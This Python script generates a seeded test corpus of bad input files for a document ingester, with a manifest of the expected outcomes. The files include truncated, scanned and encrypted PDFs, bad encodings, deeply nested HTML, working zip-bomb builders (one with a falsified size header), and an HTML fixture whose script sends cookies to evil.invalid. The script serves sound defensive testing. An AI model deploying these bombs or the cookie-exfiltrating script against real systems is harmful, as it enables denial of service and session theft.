"""Generate a corpus of bad (and awkward but good) input files, with a manifest of what each should do.

Every file is made here from code, nothing is downloaded, and the same seed
gives the same bytes.  ``manifest.json`` beside the files says, per file
(path relative to the folder), whether ``cityties ingest`` should ingest it or
fail it, why, and words one of which its error line should hold::

    .venv/bin/python scripts/make_bad_corpus.py /tmp/bad

Sizes follow the loader's defaults (``cityties.ingest.load``): the big text
file is just over ``DEFAULT_MAX_BYTES`` (50 MiB) and must be refused before it
is read; the zip bombs declare 300 MiB of members, past
``DEFAULT_MAX_UNPACKED_BYTES`` (200 MiB), in a few hundred kilobytes.  The
bombs are deflated from a stream of zeros a megabyte at a time, so making them
takes about a second and a few megabytes of memory.
"""
from __future__ import annotations

import argparse
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import asdict, dataclass
from pathlib import Path

MANIFEST = "manifest.json"
MIB = 1024 * 1024
BIG_TEXT_BYTES = 50 * MIB + 4096  # just over the loader's 50 MiB default
BOMB_BYTES = 300 * MIB  # past the loader's 200 MiB unpacked default
NESTING = 2000

# A short trip report; its names are ones the gazetteer knows, so a good file yields facts.
REPORT = """고양시의회 중국 충칭시 방문 결과 보고

1. 출장 개요
 ○ 기간: 2019. 12. 23.(월) ~ 12. 26.(목)
 ○ 방문지: 중국 충칭시(重慶), 청두시
 ○ 목적: 충칭시 인민대표대회와 우호 교류 협력 논의

2. 주요 일정
 ○ 12. 23. 충칭시 인민대표대회 상무위원회 방문, 부주임 면담
 ○ 12. 24. 충칭 양강신구 관리위원회 방문, 산업단지 시찰
 ○ 12. 25. 청두시 방문, 고양시와 청두시 간 우호협력 양해각서(MOU) 체결 논의

3. 결과
 고양시의회 대표단은 충칭시와 경제, 문화, 관광 분야의 교류를 확대하기로 하였다.
"""

_SYLLABLES = "가나다라마바사아자차카타파하고양충칭청두시의회방문교류협력경제문화관광산업단지대표단회의결과보고"


@dataclass(frozen=True, slots=True)
class Expectation:
    """What ingesting one file must do."""

    expect: str  # "ingested" or "failed"
    why: str
    reason: tuple[str, ...] = ()  # for "failed": one of these words appears in the error line
    known_bug: str = ""  # set while a loader mishandles the file; tests hold such files back


# ---------------------------------------------------------------- PDF by hand

def _pdf(page_content: bytes, with_font: bool = True) -> bytes:
    """Return a one-page PDF whose page draws ``page_content`` (a content stream)."""
    resources = b"<< /Font << /F1 5 0 R >> >>" if with_font else b"<< >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources " + resources + b" >>",
        b"<< /Length %d >>\nstream\n" % len(page_content) + page_content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def text_pdf() -> bytes:
    """Return a valid one-page PDF with an English text layer."""
    lines = ["Goyang City Council delegation visited Chongqing on 23 December 2019.",
             "The delegation met the Standing Committee of the Chongqing People's Congress.",
             "Both sides discussed a memorandum of understanding on economic cooperation."]
    ops = b"BT /F1 12 Tf 72 760 Td 16 TL " + b" ".join(b"(%s) '" % l.encode("ascii") for l in lines) + b" ET"
    return _pdf(ops)


def scanned_pdf() -> bytes:
    """Return a PDF whose only page draws a filled rectangle: no text layer, as a scan without OCR."""
    return _pdf(b"0.2 0.3 0.6 rg 72 400 300 200 re f 0 0 0 RG 4 w 60 390 324 224 re S", with_font=False)


def encrypted_pdf() -> bytes:
    """Return the text PDF encrypted with a user password (it cannot be opened without it)."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password="secret-user", owner_password="secret-owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ---------------------------------------------------------------- zip bombs

def _info(name: str, compress_type: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    # A fixed date keeps the bytes the same from run to run; a ZipInfo is stored
    # uncompressed unless told otherwise.
    info = zipfile.ZipInfo(name, date_time=(2019, 12, 23, 0, 0, 0))
    info.compress_type = compress_type
    return info


def _write_zeros(z: zipfile.ZipFile, name: str, size: int) -> None:
    """Add a member of ``size`` zero bytes, deflated a megabyte at a time (never all in memory)."""
    chunk = bytes(MIB)
    with z.open(_info(name), "w", force_zip64=True) as member:
        for _ in range(size // MIB):
            member.write(chunk)
        member.write(bytes(size % MIB))


def _zip(path: Path, small: dict[str, bytes], bomb_member: str, stored_first: str | None = None) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        if stored_first:  # HWPX, like ODF, starts with an uncompressed mimetype member
            z.writestr(_info("mimetype", zipfile.ZIP_STORED), small.pop(stored_first))
        for name, data in small.items():
            z.writestr(_info(name), data)
        _write_zeros(z, bomb_member, BOMB_BYTES)


def docx_bomb(path: Path) -> None:
    """Write a DOCX whose document part declares 300 MiB (zeros) in a few hundred KiB."""
    _zip(path, {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships"/>',
    }, "word/document.xml")


def hwpx_bomb(path: Path) -> None:
    """Write an HWPX whose first section declares 300 MiB (zeros) in a few hundred KiB."""
    _zip(path, {"mimetype": b"application/hwp+zip",
                "version.xml": b'<?xml version="1.0"?><version/>'}, "Contents/section0.xml", stored_first="mimetype")


def _raw_deflate_zeros(size: int) -> bytes:
    """Return ``size`` zero bytes as a raw deflate stream, compressed a megabyte at a time."""
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MIB)
    parts = [z.compress(chunk) for _ in range(size // MIB)]
    return b"".join([*parts, z.compress(bytes(size % MIB)), z.flush()])


def lying_docx_bomb(path: Path, declared: int = 4096) -> None:
    """Write a DOCX whose document part says it holds ``declared`` bytes but inflates to 300 MiB.

    The declared-size check passes; a reader that trusts the stream instead of
    the header unpacks 300 MiB.  The CRC is that of the declared prefix, so
    only the size tells the lie.  Written by hand: zipfile cannot be made to lie.
    """
    dos_time, dos_date = 0, (2019 - 1980) << 9 | 12 << 5 | 23
    # A package python-docx accepts, so the reader does get as far as the document part.
    members = [
        ("[Content_Types].xml", 0, b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                                   b'2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                                   b'openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml"'
                                   b' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
                                   b'document.main+xml"/></Types>', None),
        ("_rels/.rels", 0, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
                           b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                           b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                           b'</Relationships>', None),
    ]
    members.append(("word/document.xml", 8, _raw_deflate_zeros(BOMB_BYTES), declared))
    out = io.BytesIO()
    central = []
    for name, method, data, size in members:
        raw_name = name.encode("ascii")
        size = len(data) if size is None else size
        crc = zlib.crc32(data if method == 0 else bytes(size))
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, dos_time, dos_date, crc, len(data), size,
                              len(raw_name), 0) + raw_name + data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, dos_time, dos_date, crc,
                                   len(data), size, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                                      len(directory), start, 0))
    path.write_bytes(out.getvalue())


# ---------------------------------------------------------------- text and HTML

def korean_lines(rng: random.Random, n: int) -> list[str]:
    """Return ``n`` lines of Korean-looking words (not language, but the byte mix of Korean text)."""
    out = []
    for i in range(n):
        words = ["".join(rng.choice(_SYLLABLES) for _ in range(rng.randint(2, 5))) for _ in range(rng.randint(6, 14))]
        out.append(f"{i % 1000:03d}. " + " ".join(words) + ".")
    return out


def big_text(path: Path, rng: random.Random) -> None:
    """Write a UTF-8 text file of BIG_TEXT_BYTES bytes, one block of lines repeated."""
    block = ("\n".join(korean_lines(rng, 2000)) + "\n").encode("utf-8")
    with path.open("wb") as f:
        written = 0
        while written + len(block) <= BIG_TEXT_BYTES:
            written += f.write(block)
        f.write(block[:BIG_TEXT_BYTES - written])


def scripts_html() -> str:
    """Return an HTML trip report wrapped in scripts, iframes, event handlers and javascript: links."""
    body = "".join(f"<p>{line}</p>\n" for line in REPORT.splitlines() if line.strip())
    return f"""<!DOCTYPE html>
<html lang="ko"><head><meta charset="utf-8"><title>고양시의회 충칭 방문</title>
<script>document.write("SCRIPT-MARKER-INJECTED"); fetch("http://evil.invalid/?c=" + document.cookie);</script>
<style>p {{ color: red }} /* STYLE-MARKER */</style></head>
<body onload="alert('ONLOAD-MARKER')">
<iframe src="http://evil.invalid/frame.html">IFRAME-MARKER fallback</iframe>
<iframe srcdoc="&lt;script&gt;alert('SRCDOC-MARKER')&lt;/script&gt;"></iframe>
<main>
{body}
<p><a href="javascript:alert('HREF-MARKER')">자세히 보기</a></p>
<script type="text/javascript">
  // SCRIPT-MARKER-2: a script inside the article body
  var x = "</p><p>";
</script>
<noscript>NOSCRIPT-MARKER</noscript>
</main>
<object data="x.swf">OBJECT-MARKER</object>
</body></html>
"""


def nested_tables_html(depth: int) -> str:
    """Return HTML with ``depth`` tables nested one inside another's cell, text at the bottom."""
    return ("<!DOCTYPE html><html><body><p>고양시의회 대표단이 충칭시를 방문하였다.</p>\n"
            + "<table><tr><td>" * depth + "가장 안쪽 칸: 청두시" + "</td></tr></table>" * depth
            + "\n<p>끝.</p></body></html>\n")


# ---------------------------------------------------------------- the corpus

def make_corpus(folder: str | Path, seed: int = 20191223) -> dict[str, Expectation]:
    """Write every file into ``folder`` (created) and its manifest; return the manifest."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    plan: dict[str, Expectation] = {}

    def put(name: str, data: bytes | None, expectation: Expectation) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if data is not None:
            path.write_bytes(data)
        plan[name] = expectation
        return path

    put("empty.txt", b"", Expectation("failed", "zero bytes", ("empty",)))
    put("noise.txt", rng.randbytes(64 * 1024),
        Expectation("failed", "random bytes with a .txt name", ("encoding", "binary", "no text")))
    pdf = text_pdf()
    put("truncated.pdf", pdf[: len(pdf) // 3],
        Expectation("failed", "a PDF cut off a third of the way in, before its text",
                    ("readable", "malformed", "broken", "truncated", "damaged")))
    put("scanned.pdf", scanned_pdf(),
        Expectation("failed", "a page with only a drawn rectangle: no text layer", ("no text", "OCR")))
    put("encrypted.pdf", encrypted_pdf(),
        Expectation("failed", "needs a user password", ("password", "encrypted")))
    put("bomb.docx", None, Expectation("failed", "declares 300 MiB, over max_unpacked_bytes", ("limit", "bomb")))
    docx_bomb(folder / "bomb.docx")
    put("bomb_lying.docx", None,
        Expectation("failed", "declares 4 KiB but inflates to 300 MiB: must stop at the declared size",
                    ("readable", "malformed", "XML", "limit", "CRC", "bomb")))
    lying_docx_bomb(folder / "bomb_lying.docx")
    put("bomb.hwpx", None, Expectation("failed", "declares 300 MiB, over max_unpacked_bytes", ("limit", "bomb")))
    hwpx_bomb(folder / "bomb.hwpx")
    put("corrupt.hwp", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(8 * 1024 - 8),
        Expectation("failed", "OLE2 magic, then garbage", ("OLE2", "HWP", "broken", "malformed")))
    put("cp949.txt", REPORT.encode("cp949"), Expectation("ingested", "legacy Korean encoding, no BOM"))
    put("utf16.txt", REPORT.replace("\n", "\r\n").encode("utf-16-le"),
        Expectation("ingested", "UTF-16 little-endian without a BOM, as Windows Notepad saved it"))
    big = put("big.txt", None, Expectation("failed", f"{BIG_TEXT_BYTES:,} bytes, just over max_bytes (50 MiB): "
                                                     "refused before it is read", ("limit",)))
    big_text(big, rng)
    raw = REPORT.encode("utf-8")
    middle = raw.index("2. 주요 일정".encode("utf-8"))
    # The loader refuses a file no encoding decodes cleanly rather than guess at
    # mojibake; a lenient reading would be a change to ingest/loaders/encoding.py.
    put("bad_utf8.txt", raw[:middle] + b"\xff\xfe\xc3\x28 \xed\xa0\x80 \xe2\x82\n" + raw[middle:],
        Expectation("failed", "UTF-8 with invalid bytes in the middle: no encoding decodes it cleanly",
                    ("encoding",)))
    put("scripts.html", scripts_html().encode("utf-8"),
        Expectation("ingested", "a report wrapped in scripts, iframes and javascript: links; none of them is text"))
    put("nested_tables.html", nested_tables_html(NESTING).encode("utf-8"),
        Expectation("failed", f"{NESTING} tables nested in one another: past what libxml2 reads, so refused "
                              "in one line rather than read with its end silently lost", ("nested", "deep")))
    put("하위 폴더/고양시의회 출장 보고서 (충칭) 2019.txt", raw,
        Expectation("ingested", "spaces, brackets and Hangul in the folder and file names"))

    (folder / MANIFEST).write_text(
        json.dumps({name: asdict(e) for name, e in plan.items()}, ensure_ascii=False, indent=1) + "\n",
        encoding="utf-8")
    return plan


def read_manifest(folder: str | Path) -> dict[str, Expectation]:
    """Return the manifest written by :func:`make_corpus`."""
    data = json.loads((Path(folder) / MANIFEST).read_text(encoding="utf-8"))
    return {name: Expectation(e["expect"], e["why"], tuple(e["reason"]), e.get("known_bug", ""))
            for name, e in data.items()}


def main(argv: list[str] | None = None) -> int:
    """Generate the corpus into the folder given on the command line."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--seed", type=int, default=20191223)
    args = parser.parse_args(argv)
    plan = make_corpus(args.folder, args.seed)
    for name, e in plan.items():
        print(f"{e.expect:8}  {name}  ({e.why})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
